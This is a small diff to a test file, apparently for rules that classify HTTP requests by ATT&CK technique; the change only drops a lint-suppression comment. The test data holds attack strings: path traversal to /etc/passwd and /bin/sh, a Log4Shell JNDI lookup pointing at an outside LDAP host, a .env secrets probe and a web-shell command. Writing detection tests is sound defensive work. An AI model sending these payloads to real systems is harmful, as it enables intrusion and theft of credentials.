@@ -43,7 +43,6 @@ describe('ATT&CK rules', () => {
   it.each([
     ['/../../../../etc/passwd', 'T1190'],
     ['/cgi-bin/%2e%2e/%2e%2e/bin/sh', 'T1190'],
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack looks like one.
     ['/?x=${jndi:ldap://198.51.100.9/a}', 'T1190'],
     ['/.env', 'T1552.001'],
     ['/shell.php?cmd=id', 'T1505.003'],
